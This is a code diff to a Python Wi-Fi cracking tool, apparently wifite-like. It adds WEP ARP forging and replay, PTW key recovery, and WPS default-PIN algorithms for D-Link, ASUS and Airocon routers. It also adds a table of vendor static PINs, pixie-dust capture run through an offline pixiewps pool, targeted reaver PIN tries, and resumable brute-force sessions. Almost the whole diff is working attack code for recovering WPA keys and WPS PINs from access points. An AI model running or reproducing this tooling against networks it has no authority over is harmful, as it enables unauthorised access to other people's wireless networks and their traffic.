+            Forges an ARP request from client_mac with the keystream in xor_file (packetforge-ng),
+            and caches it. Returns True if arp_file was written.
+        """
+        remove_file(arp_file)
+        cmd = ['packetforge-ng',
+               '-0',
+               '-a', self.target.bssid,
+               '-h', client_mac,
+               '-k', '192.168.1.2',
+               '-l', '192.168.1.100',
+               '-y', xor_file,
+               '-w', arp_file,
+               self.iface]
+        call(cmd, stdout=DN, stderr=DN)
+        if not os.path.exists(arp_file):
+            return False
+        self.wep_cache_file(arp_file, self.wep_cache_filename('_' + client_mac.replace(':', '-') + '.cap'))
+        return True
+
+    def wep_cached_arp(self, client_mac, arp_file):
+        """
+            Puts a forged ARP request of client_mac for the target in arp_file: the cached one, or one
+            forged with the cached keystream. Returns False if no keystream of the target is cached.
+        """
+        cached_arp = self.wep_cache_filename('_' + client_mac.replace(':', '-') + '.cap')
+        if os.path.exists(cached_arp):
+            copy_file(cached_arp, arp_file)
+            return True
+        cached_xor = self.wep_cache_filename('.xor')
+        return os.path.exists(cached_xor) and self.wep_forge_arp(cached_xor, client_mac, arp_file)
+
+    def wep_drop_cache(self):
+        """
+            Removes the cached keystream and forged packets of the target.
+        """
+        prefix = self.target.bssid.replace(':', '-')
+        try:
+            names = os.listdir(self.RUN_CONFIG.WEP_KEYSTREAM_DIR)
+        except OSError:
+            return
+        for name in names:
+            if name.startswith(prefix):
+                remove_file(os.path.join(self.RUN_CONFIG.WEP_KEYSTREAM_DIR, name))
+
+    def get_arp_replay_command(self, arp_file):
+        """
+            Returns the aireplay-ng command replaying the (forged) ARP request in arp_file.
+        """
+        return ['aireplay-ng',
+                '--ignore-negative-one',
+                '--arpreplay',
+                '-b', self.target.bssid,
+                '-r', arp_file,  # Used the forged ARP packet
+                '-F',  # Select the first packet
+                self.iface]
+
+    def wep_ptw_feed(self, ptw, reader, wepkey_file):
+        """
+            Feeds the frames captured since the last call to the PTW engine.
+            Writes the key to wepkey_file, as 'aircrack-ng -l' does, once it is recovered.
+        """
+        for (_, _, linktype, packet) in reader.read():
+            frame = dot11_frame(linktype, packet)
+            sample = None if frame is None else parse_wep_sample(frame, self.target.bssid)
+            if sample is not None:
+                ptw.add(sample[0], sample[1])
+        key = ptw.crack()
+        if key is not None:
+            with open(wepkey_file, 'w') as f:
+                f.write(key.hex().upper())
 
     def wep_fake_auth(self, iface, target, time_to_display):
         """
@@ -2971,10 +5260,8 @@ class WEPAttack(Attack):
                 time.sleep(0.5)
                 continue
 
-            result = proc_fakeauth.communicate()[0].lower()
-            if result.find('Switching to shared key') != -1 or \
-                    result.find('Rejects open system'): pass
-            if result.find('Association successful') != -1:
+            result = proc_fakeauth.communicate()[0].decode(errors='replace').lower()
+            if result.find('association successful') != -1:
                 print_green(G + 'Success!' + W)
                 return True
 
@@ -3088,6 +5375,279 @@ class WEPAttack(Attack):
 #################
 # WPS FUNCTIONS #
 #################
+def wps_pin_checksum(pin):
+    """
+        Returns the checksum digit of the first 7 digits of a WPS PIN.
+    """
+    accum = 0
+    while pin:
+        accum += 3 * (pin % 10)
+        pin //= 10
+        accum += pin % 10
+        pin //= 10
+    return (10 - accum % 10) % 10
+
+
+def wps_pin_dlink(mac, offset=0):
+    nic = (int(mac.replace(':', '')[-6:], 16) + offset) & 0xffffff
+    pin = nic ^ 0x55aa55
+    pin ^= (((pin & 0xf) << 4) + ((pin & 0xf) << 8) + ((pin & 0xf) << 12) +
+            ((pin & 0xf) << 16) + ((pin & 0xf) << 20))
+    pin %= 1000000
+    if pin < 100000:
+        pin += ((pin % 9) * 100000) + 100000
+    return pin
+
+
+def wps_pin_asus(mac):
+    b = [int(x, 16) for x in mac.split(':')]
+    return int(''.join(str((b[i % 6] + b[5]) % (10 - (i + b[1] + b[2] + b[3] + b[4] + b[5]) % 7))
+                       for i in range(7)))
+
+
+def wps_pin_airocon(mac):
+    b = [int(x, 16) for x in mac.split(':')]
+    return sum(((b[(6 - i) % 6] + b[(7 - i) % 6]) % 10) * 10 ** i for i in range(7))
+
+
+# Published default PIN algorithms: name, first 7 digits from the BSSID, WPS manufacturers it is the default of
+WPS_PIN_ALGORITHMS = [  # (name, function of the BSSID, vendors; none for the generic ones)
+    ('24-bit', lambda mac: int(mac.replace(':', '')[-6:], 16) % 10000000, []),
+    ('28-bit', lambda mac: int(mac.replace(':', '')[-7:], 16) % 10000000, []),
+    ('32-bit', lambda mac: int(mac.replace(':', '')[-8:], 16) % 10000000, []),
+    ('D-Link', wps_pin_dlink, ['d-link', 'dlink']),
+    ('D-Link+1', lambda mac: wps_pin_dlink(mac, 1), ['d-link', 'dlink']),
+    ('ASUS', wps_pin_asus, ['asus']),
+    ('Airocon', wps_pin_airocon, ['airocon', 'realtek']),
+]
+
+# Static default PINs (first 7 digits) shipped by whole product lines: (name, PIN, vendors)
+WPS_STATIC_PINS = [
+    ('Cisco', 1234567, []),
+    ('Broadcom 1', 2017252, ['broadcom']), ('Broadcom 2', 4626484, ['broadcom']),
+    ('Broadcom 3', 7622990, ['broadcom']), ('Broadcom 4', 6232714, ['broadcom']),
+    ('Broadcom 5', 1086411, ['broadcom']), ('Broadcom 6', 3195719, ['broadcom']),
+    ('Airocon 1', 3043203, ['airocon']), ('Airocon 2', 7141225, ['airocon']),
+    ('DSL-2740R', 6817554, ['dsl-2740r']),
+    ('Realtek 1', 9566146, ['realtek']), ('Realtek 2', 9571911, ['realtek']), ('Realtek 3', 4856371, ['realtek']),
+    ('Upvel', 2085483, ['upvel']), ('UR-814AC', 4397768, ['ur-814ac']), ('UR-825AC', 529417, ['ur-825ac']),
+    ('Onlime', 9995604, ['onlime']), ('Edimax', 3561153, ['edimax']),
+    ('Thomson', 6795814, ['thomson', 'technicolor']), ('HG532x', 3425928, ['hg532']),
+    ('H108L', 9422988, ['h108l']), ('CBN ONO', 9955203, ['cbn', 'compal']),
+]
+
+
+def wps_default_pins(target):
+    """
+        Returns the default PINs of a target as (name, 8-digit PIN) tuples, most likely first:
+        the algorithms and static PINs of the vendor or model named in its WPS information
+        element, then the generic ones (most access points lock WPS after a few wrong PINs).
+    """
+    vendor = ' '.join([target.wps_manufacturer, target.wps_model, target.wps_device_name]).lower()
+    algorithms = [a for a in WPS_PIN_ALGORITHMS if any(v in vendor for v in a[2])] + \
+                 [a for a in WPS_PIN_ALGORITHMS if len(a[2]) == 0]
+    statics = [p for p in WPS_STATIC_PINS if any(v in vendor for v in p[2])] + \
+              [p for p in WPS_STATIC_PINS if len(p[2]) == 0]
+    candidates = [(name, algorithm(target.bssid)) for (name, algorithm, vendors) in algorithms]
+    candidates += [(name, pin) for (name, pin, vendors) in statics]
+    pins = []
+    for (name, pin) in candidates:
+        pin = '%07d%d' % (pin, wps_pin_checksum(pin))
+        if pin not in [p for (n, p) in pins]:
+            pins.append((name, pin))
+    return pins
+
+
+# reaver -vvv prints the values of the M1-M3 exchange as "[P] <name>: <hex>"; pixiewps options for each
+PIXIE_VALUES = {'PKE': '-e', 'PKR': '-r', 'E-Hash1': '-s', 'E-Hash2': '-z', 'AuthKey': '-a',
+                'E-Nonce': '-n', 'R-Nonce': '-m'}
+PIXIE_REQUIRED = ['PKE', 'E-Hash1', 'E-Hash2', 'AuthKey', 'E-Nonce']
+
+
+def parse_pixie_values(lines):
+    """
+        Returns the pixie-dust values found in reaver's verbose output, {name: hex}.
+    """
+    values = {}
+    for line in lines:
+        match = re.search(r'\[P\]\s*([A-Za-z0-9-]+)\s*:\s*([0-9a-fA-F:]+)\s*$', line)
+        if match and match.group(1) in PIXIE_VALUES:
+            values[match.group(1)] = match.group(2).replace(':', '')
+    return values
+
+
+def pixiewps_job(values, force):
+    """
+        Runs pixiewps on the values of an exchange; with force, its slow brute-force modes.
+        Runs in a PixieDustPool process. Returns (PIN or '', force).
+    """
+    cmd = ['pixiewps']
+    for (name, value) in values.items():
+        cmd.append(PIXIE_VALUES[name])
+        cmd.append(value)
+    if force:
+        cmd.append('--force')
+    try:
+        proc = Popen(cmd, stdout=PIPE, stderr=DN)
+        output = proc.communicate()[0].decode('utf-8', 'replace')
+    except OSError:
+        return ('', force)
+    match = re.search(r'WPS pin\s*:\s*(\d{8}|<empty>)', output, re.IGNORECASE)
+    if match is None:
+        return ('', force)
+    return ('' if match.group(1) == '<empty>' else match.group(1), force)
+
+
+def pixie_pool():
+    """
+        Returns the PixieDustPool, starting its processes on first use.
+    """
+    global RUN_CONFIG
+    if RUN_CONFIG.WPS_PIXIE_POOL is None:
+        RUN_CONFIG.WPS_PIXIE_POOL = PixieDustPool(RUN_CONFIG.WPS_PIXIE_JOBS)
+    return RUN_CONFIG.WPS_PIXIE_POOL
+
+
+def pixie_worker_init():
+    """
+        Makes a PixieDustPool process (and its pixiewps) ignore the ^C which skips a target.
+    """
+    signal(SIGINT, SIG_IGN)
+
+
+class PixieDustPool:
+    """
+        Computes pixie-dust PINs offline in a pool of processes, so the radio can move on to
+        the next target meanwhile. Each exchange is first tried with pixiewps' quick modes;
+        only if those fail is it queued again for the brute-force modes (--force).
+    """
+
+    def __init__(self, processes):
+        self.pool = multiprocessing.Pool(processes=processes, initializer=pixie_worker_init)
+        self.targets = {}  # BSSID: Target of the exchange
+        self.results = {}  # BSSID: PIN ('' if not found), once every computation finished
+        self.pending = {}  # BSSID: True while pixiewps runs on the exchange
+
+    def submit(self, target, values):
+        self.targets[target.bssid] = target
+        self.pending[target.bssid] = True
+        self.results.pop(target.bssid, None)
+        self.pool.apply_async(pixiewps_job, (values, False),
+                              callback=lambda result: self.finished(target.bssid, values, result),
+                              error_callback=lambda error: self.failed(target.bssid))
+
+    def finished(self, bssid, values, result):
+        # Called in the pool's result thread
+        (pin, force) = result
+        if pin == '' and not force:
+            self.pool.apply_async(pixiewps_job, (values, True),
+                                  callback=lambda result: self.finished(bssid, values, result),
+                                  error_callback=lambda error: self.failed(bssid))
+            return
+        self.results[bssid] = pin
+        self.pending[bssid] = False
+
+    def failed(self, bssid):
+        # Called in the pool's result thread when a computation raised
+        self.results[bssid] = ''
+        self.pending[bssid] = False
+
+    def wait(self, bssid, timeout, force=False):
+        """
+            Waits up to 'timeout' seconds for the PIN of a target (the quick modes, or every mode
+            with force). Returns the PIN, or '' if it is not known (yet).
+        """
+        started = time.time()
+        while time.time() - started < timeout:
+            if self.results.get(bssid, '') != '' or (force and not self.pending.get(bssid, False)):
+                break
+            time.sleep(0.2)
+        return self.results.get(bssid, '')
+
+    def take(self, bssid):
+        """
+            Returns the PIN of a target, or '', and forgets it: found() will not list it.
+        """
+        return self.results.pop(bssid, '')
+
+    def outstanding(self):
+        return [bssid for (bssid, pending) in self.pending.items() if pending]
+
+    def found(self):
+        """
+            Returns the Targets whose PIN was found, with the PIN.
+        """
+        return [(self.targets[bssid], pin) for (bssid, pin) in self.results.items() if pin != '']
+
+    def terminate(self):
+        self.pool.terminate()
+
+
+class WPSSession:
+    """
+        Progress of the WPS PIN attack on an access point, kept across runs: reaver's own session
+        (<BSSID>.wpc, passed with -s so reaver restores and saves it without asking), and what
+        reaver does not record (<BSSID>.json): last PIN, attempts, time spent and number of runs.
+    """
+    TOTAL_PINS = 11000  # 10^4 first halves, then 10^3 second halves (the last digit is a checksum)
+
+    def __init__(self, directory, bssid):
+        name = directory + os.sep + bssid.replace(':', '-')
+        self.directory = directory
+        self.wpc_file = name + '.wpc'
+        self.state_file = name + '.json'
+        self.clear()
+        try:
+            with open(self.state_file) as f:
+                state = json.load(f)
+            self.last_pin = state['last_pin']
+            self.attempts = state['attempts']
+            self.tries = state['tries']
+            self.elapsed = state['elapsed']
+            self.runs = state['runs']
+        except (IOError, OSError, ValueError, KeyError):
+            pass
+
+    def clear(self):
+        self.last_pin = ''
+        self.attempts = 0  # PINs reaver got an answer for
+        self.tries = 0  # Including retries of the same PIN
+        self.elapsed = 0.0  # Seconds spent
+        self.runs = 0
+
+    def covered(self):
+        """
+            Returns the number of PINs reaver's session has gone through (0 without a session).
+        """
+        try:
+            with open(self.wpc_file) as f:
+                p1_index, p2_index, key_status = [int(f.readline()) for i in range(3)]
+        except (IOError, OSError, ValueError):
+            return 0
+        if key_status == 0:  # Searching the first half
+            return p1_index
+        if key_status == 1:  # Searching the second half
+            return 10000 + p2_index
+        return self.TOTAL_PINS
+
+    def remaining(self):
+        return self.TOTAL_PINS - self.covered()
+
+    def save(self):
+        try:
+            os.makedirs(self.directory, exist_ok=True)
+            with open(self.state_file, 'w') as f:
+                json.dump({'last_pin': self.last_pin, 'attempts': self.attempts, 'tries': self.tries,
+                           'elapsed': self.elapsed, 'runs': self.runs}, f)
+        except (IOError, OSError):
+            print_red(R + ' [!]' + O + ' Unable to save WPS session to %s' % (self.state_file) + W)
+
+    def reset(self):
+        remove_file(self.wpc_file)
+        remove_file(self.state_file)
+        self.clear()
+
+
 class WPSAttack(Attack):
     def __init__(self, iface, target, config):
         self.iface = iface
@@ -3099,15 +5659,27 @@ class WPSAttack(Attack):
             Abstract method for initializing the WPS attack
         '''
         if self.is_pixie_supported():
-            # Try the pixie-dust attack
-            if self.attack_wps_pixie():
-                # If it succeeds, stop
-                return True
+            # Capture the exchange for the pixie-dust attack, computed offline
+            values = self.attack_wps_pixie()
+            if values is not None:
+                pool = pixie_pool()
+                pool.submit(self.target, values)
+                pin = pool.wait(self.target.bssid, self.RUN_CONFIG.WPS_PIXIE_WAIT)
+                if pin != '':
+                    pool.take(self.target.bssid)
+                if pin != '' and self.attack_wps_pins([('pixie-dust', pin)]):
+                    return True
+                if pin == '':
+                    print(GR + ' [+]' + W + ' pixie-dust computations continue in the background')
 
         # Drop out if user specified to run ONLY the pixie attack
         if self.RUN_CONFIG.PIXIE:
             return False
 
+        # Try the default PINs of the vendor, then search
+        if self.RUN_CONFIG.WPS_DEFAULT_PINS and self.attack_wps_pins(wps_default_pins(self.target)):
+            return True
+
         # Try the WPS PIN attack
         return self.attack_wps()
 
@@ -3119,10 +5691,13 @@ class WPSAttack(Attack):
 
     def is_pixie_supported(self):
         '''
-            Checks if current version of Reaver supports the pixie-dust attack
+            Checks if current version of Reaver supports the pixie-dust attack,
+            and pixiewps is installed to compute it
         '''
+        if not program_exists('pixiewps'):
+            return False
         p = Popen(['reaver', '-h'], stdout=DN, stderr=PIPE)
-        stdout = p.communicate()[1]
+        stdout = p.communicate()[1].decode('utf-8', 'replace')
         for line in stdout.split('\n'):
             if '--pixie-dust' in line:
                 return True
@@ -3130,15 +5705,11 @@ class WPSAttack(Attack):
 
     def attack_wps_pixie(self):
         """
-            Attempts "Pixie WPS" attack which certain vendors
-            susceptible to.
+            Runs the WPS exchange up to M3 ("Pixie WPS" attack, which certain vendors are
+            susceptible to) and collects what pixiewps needs from reaver's verbose output.
+            Returns the values, {name: hex}, or None if the exchange could not be captured.
         """
-
-        # TODO Check if the user's version of reaver supports the Pixie attack (1.5.2+, "mod by t6_x")
-        #      If not, return False
-
-        output_file = os.path.join(self.RUN_CONFIG.temp, 'out.out')
-        pixie_file = os.path.join(self.RUN_CONFIG.temp, 'pixie.out')
+        output_file = os.path.join(self.RUN_CONFIG.temp, 'pixie.out')
 
         print(GR + ' [0:00:00]' + W + ' initializing %sWPS Pixie Attack%s on %s' % \
                                       (G, W, G + self.target.ssid + W + ' (' + G + self.target.bssid + W + ')' + W))
@@ -3146,133 +5717,168 @@ class WPSAttack(Attack):
                '-i', self.iface,
                '-b', self.target.bssid,
                '-c', self.target.channel,
-               '-K', '1', # Pixie WPS attack
-               '-vv']  # verbose output
+               '-vvv']  # Prints the exchange values
 
-        # Redirect output to files
-        outf = open(output_file, 'a')
-        errf = open(pixie_file, 'a')
+        outf = open(output_file, 'w')
+        proc = Popen(cmd, stdout=outf, stderr=outf)
 
-        # Start process
-        proc = Popen(cmd, stdout=outf, stderr=errf)
-
-        cracked = False  # Flag for when password/pin is found
         time_started = time.time()
-        pin = ''
-        key = ''
+        values = {}
 
         try:
-            while not cracked:
+            while time.time() - time_started < self.RUN_CONFIG.WPS_PIXIE_TIMEOUT:
                 time.sleep(1)
-                errf.flush()
+                outf.flush()
+                with open(output_file, 'r', errors='replace') as inf:
+                    lines = inf.read().replace('\0', '').split('\n')
+                values = parse_pixie_values(lines)
+                if all(name in values for name in PIXIE_REQUIRED):
+                    break
                 if proc.poll() != None:
-                    # Process stopped: Cracked? Failed?
-                    errf.close()
-                    inf = open(output_file, 'r')
-                    lines = inf.read().split('\n')
-                    inf.close()
-                    for line in lines:
-                        # Cracked: older pixiewps/reaver output
-                        if line.find("WPS PIN: '") != -1:
-                            pin = line[line.find("WPS PIN: '") + 10:-1]
-                            cracked = True
-                        if line.find("WPA PSK: '") != -1:
-                            key = line[line.find("WPA PSK: '") + 10:-1]
-
-                        # Cracked: Newer pixiewps output
-                        if line.find("WPS pin:  ") != -1:
-                            pin = line[line.find("WPS Pin:  ") + 10:]
-                            cracked = True
-                        if line.find("WPA PSK:  ") != -1:
-                            key = line[line.find("WPA PSK:  ") + 10:]
-
-                        # Failed:
-                        if 'Pixie-Dust' in line and 'WPS pin not found' in line:
-                            # PixieDust isn't possible on this router
-                            print('\r %s WPS Pixie attack%s failed - WPS pin not found              %s' % (GR + sec_to_hms(time.time() - time_started) + G, R, W))
-                            break
                     break
 
-                # (Reaver is still running)
-
-                print('\r %s WPS Pixie Attack:' % (GR + sec_to_hms(time.time() - time_started) + G), end=' ')
-
-                # Check if there's an output file to parse
-                if not os.path.exists(output_file): continue
-                inf = open(output_file, 'r')
-                lines = inf.read().split('\n')
-                inf.close()
-
+                # Print the last message from reaver as a "status update"
                 output_line = ''
                 for line in lines:
-                    line = line.replace('[+]', '').replace('[!]', '').replace('\0', '').strip()
-                    if line == '' or line == ' ' or line == '\t': continue
+                    line = line.replace('[+]', '').replace('[!]', '').replace('[P]', '').strip()
+                    if line == '': continue
                     if len(line) > 50:
                         # Trim to a reasonable size
                         line = line[0:47] + '...'
                     output_line = line
-
-                if 'Sending M2 message' in output_line:
-                    # At this point in the Pixie attack, all output is via stderr
-                    # We have to wait for the process to finish to see the result.
-                    print(O, 'Sending M2 message (may take a while)...                   ', W, end=' ')
-                elif output_line != '':
-                    # Print the last message from reaver as a "status update"
-                    print(C, output_line, W, ' ' * (50 - len(output_line)), end=' ')
-
+                print('\r %s WPS Pixie Attack:' % (GR + sec_to_hms(time.time() - time_started) + G), end=' ')
+                print(C, output_line, W, ' ' * (50 - len(output_line)), end=' ')
                 stdout.flush()
 
-                # Clear out output file
-                inf = open(output_file, 'w')
-                inf.close()
-
-            # End of big "while not cracked" loop
-            if cracked:
-                if pin != '':
-                    print(GR + '\n\n [+]' + G + ' PIN found:     %s' % (C + pin + W))
-
-                if key != '':
-                    print_green(GR + ' [+] %sWPA Key Found:%s %s' % (G, W, C + key + W))
-                else:
-                    key = 'N/A'
-
-                self.RUN_CONFIG.WPA_FINDINGS.append(W + "Found %s's WPA Key: \"%s\", WPS PIN: %s" % (
-                G + self.target.ssid + W, C + key + W, C + pin + W))
-                self.RUN_CONFIG.WPA_FINDINGS.append('')
-
-                t = Target(self.target.bssid, 0, 0, 0, 'WPA', self.target.ssid)
-                t.key = key
-                t.wps = pin
-                self.RUN_CONFIG.save_cracked(t)
-            else:
-                print(GR + '\n [+]' + R + ' Attack failed.' + W)
-
         except KeyboardInterrupt:
             print_red(R + '\n (^C)' + O + ' WPS Pixie Attack Interrupted' + W)
             if attack_interrupted_prompt():
                 send_interrupt(proc)
+                outf.close()
                 print('')
                 self.RUN_CONFIG.exit_gracefully(0)
 
         send_interrupt(proc)
+        outf.close()
+        remove_file(output_file)
 
-        # Delete the files
-        if os.path.exists(output_file): os.remove(output_file)
-        if os.path.exists(pixie_file): os.remove(pixie_file)
+        if not all(name in values for name in PIXIE_REQUIRED):
+            print(GR + '\n [+]' + R + ' Unable to capture the exchange for the pixie-dust attack.' + W)
+            return None
+        print('\r %s captured the %sM1-M3 exchange%s for the pixie-dust attack                      ' % (
+        GR + sec_to_hms(time.time() - time_started) + W, G, W))
+        return values
 
-        return cracked
+    def attack_wps_pins(self, pins):
+        """
+            Tries PINs of the target one by one (reaver -p PIN -g 1): its default PINs, or
+            one computed offline. 'pins' is a list of (name, PIN) tuples. Stops as soon as
+            reaver reports rate limiting or a locked setup, to leave the PIN search a chance.
+            Returns True if one of them was the PIN.
+        """
+        print(GR + ' [0:00:00]' + W + ' trying %s%d PIN%s%s on %s' % \
+                                      (G, len(pins), '' if len(pins) == 1 else 's', W,
+                                       G + self.target.ssid + W + ' (' + G + self.target.bssid + W + ')' + W))
+        output_file = os.path.join(self.RUN_CONFIG.temp, 'out.out')
+        session_file = os.path.join(self.RUN_CONFIG.temp, 'pin.wpc')  # Keeps the PIN search session untouched
+        time_started = time.time()
+        proc = None
+        pin = ''
+        key = ''
+        locked = False
+
+        try:
+            for (index, (name, candidate)) in enumerate(pins):
+                remove_file(output_file)
+                remove_file(session_file)
+                cmd = ['reaver',
+                       '-i', self.iface,
+                       '-b', self.target.bssid,
+                       '-c', self.target.channel,
+                       '-o', output_file,
+                       '-s', session_file,
+                       '-p', candidate,
+                       '-g', '1',  # Quit after the attempt
+                       '-vv']
+                proc = Popen(cmd, stdout=DN, stderr=DN)
+                pin_started = time.time()
+                while proc.poll() is None and time.time() - pin_started < self.RUN_CONFIG.WPS_PIN_TIMEOUT:
+                    print('\r %s trying PIN %s (%s) %d/%d    ' % (
+                    GR + sec_to_hms(time.time() - time_started) + W, C + candidate + W, name, index + 1, len(pins)), end=' ')
+                    stdout.flush()
+                    time.sleep(1)
+                    if os.path.exists(output_file):
+                        with open(output_file, 'r', errors='replace') as inf:
+                            output = inf.read()
+                        if re.search(r'\[!\].*(rate limiting|locked)', output):
+                            locked = True
+                            break
+                send_interrupt(proc)
+                proc.wait()
+
+                if not os.path.exists(output_file): continue
+                with open(output_file, 'r', errors='replace') as inf:
+                    for line in inf:
+                        if line.find("WPS PIN: '") != -1:
+                            pin = line[line.find("WPS PIN: '") + 10:].strip().rstrip("'")
+                        if line.find("WPA PSK: '") != -1:
+                            key = line[line.find("WPA PSK: '") + 10:].strip().rstrip("'")
+                if pin != '' or locked: break
+
+        except KeyboardInterrupt:
+            print_red(R + '\n (^C)' + O + ' WPS PIN Attack Interrupted' + W)
+            send_interrupt(proc)
+            if attack_interrupted_prompt():
+                print('')
+                self.RUN_CONFIG.exit_gracefully(0)
+
+        remove_file(output_file)
+        remove_file(session_file)
+        if pin == '' and locked:
+            self.target.wps_locked = True  # The scheduler ranks its other WPS jobs accordingly
+            print_red('\r %s the access point is rate limiting PIN attempts, stopping   %s' % (
+            R + sec_to_hms(time.time() - time_started) + O, W))
+            return False
+        if pin == '':
+            print('\r %s none of the PINs worked                              ' % (
+            GR + sec_to_hms(time.time() - time_started) + W))
+            return False
 
+        print(GR + '\n\n [+]' + G + ' PIN Found:     %s' % (C + pin + W))
+        if key != '':
+            print_green(GR + ' [+] %sWPA Key Found:%s %s' % (G, W, C + key + W))
+        else:
+            key = 'N/A'
+        self.RUN_CONFIG.WPA_FINDINGS.append(W + "Found %s's WPA key: \"%s\", WPS PIN: %s" % (
+        G + self.target.ssid + W, C + key + W, C + pin + W))
+        self.RUN_CONFIG.WPA_FINDINGS.append('')
+
+        t = Target(self.target.bssid, 0, 0, 0, 'WPA', self.target.ssid)
+        t.key = key
+        t.wps = pin
+        self.RUN_CONFIG.save_cracked(t)
+        return True
 
     def attack_wps(self):
         print(GR + ' [0:00:00]' + W + ' initializing %sWPS PIN attack%s on %s' % \
                                       (G, W, G + self.target.ssid + W + ' (' + G + self.target.bssid + W + ')' + W))
 
+        session = WPSSession(self.RUN_CONFIG.WPS_SESSION_DIR, self.target.bssid)
+        if not self.RUN_CONFIG.WPS_RESUME:
+            session.reset()
+        elif session.runs > 0 or session.covered() > 0:
+            print(GR + ' [+]' + W + ' resuming session: %s PINs left, last PIN %s, %s attempts in %d run%s' % (
+            G + str(session.remaining()) + W, C + (session.last_pin or 'n/a') + W,
+            G + str(session.attempts) + W, session.runs, '' if session.runs == 1 else 's'))
+        os.makedirs(self.RUN_CONFIG.WPS_SESSION_DIR, exist_ok=True)
+
         output_file = os.path.join(self.RUN_CONFIG.temp, 'out.out')
         cmd = ['reaver',
                '-i', self.iface,
                '-b', self.target.bssid,
                '-o', output_file, 
                '-c', self.target.channel,
+               '-s', session.wpc_file,  # Restore and save the session without asking
                '-vv']  
         proc = Popen(cmd, stdout=DN, stderr=DN)
 
@@ -3367,6 +5973,7 @@ class WPSAttack(Attack):
                     print_red(R + '\n [!]' + O + ' Unable to complete successful try in %d retries' % (
                     self.RUN_CONFIG.WPS_MAX_RETRIES))
                     print_red(R + ' [+]' + O + ' The access point may have WPS-locking enabled, or is too far away' + W)
+                    self.target.wps_locked = True
                     print(R + ' [+]' + W + ' Skipping %s' % (O + self.target.ssid + W))
                     break
 
@@ -3403,14 +6010,36 @@ class WPSAttack(Attack):
         except KeyboardInterrupt:
             print_red(R + '\n (^C)' + O + ' WPS Brute-Force Attack Interrupted' + W)
             if attack_interrupted_prompt():
-                send_interrupt(proc)
+                self.wps_session_end(session, proc, cracked, tries, tries_total, last_pin, time_started)
                 print('')
                 self.RUN_CONFIG.exit_gracefully(0)
 
-        send_interrupt(proc)
+        self.wps_session_end(session, proc, cracked, tries, tries_total, last_pin, time_started)
 
         return cracked
 
+    def wps_session_end(self, session, proc, cracked, tries, tries_total, last_pin, time_started):
+        """
+            Stops reaver (which saves its session on SIGINT) and records the run in the session,
+            or forgets the session if the PIN was found.
+        """
+        send_interrupt(proc)
+        try:
+            proc.wait(timeout=5)
+        except TimeoutExpired:
+            pass
+        if cracked:
+            session.reset()
+            return
+        session.attempts += tries
+        session.tries += max(tries_total, 0)
+        session.last_pin = last_pin or session.last_pin
+        session.elapsed += time.time() - time_started
+        session.runs += 1
+        session.save()
+        print(GR + ' [+]' + W + ' WPS session saved: %s of %d PINs left' % (
+        G + str(session.remaining()) + W, WPSSession.TOTAL_PINS))
+
 
 if __name__ == '__main__':
     RUN_CONFIG = RunConfiguration()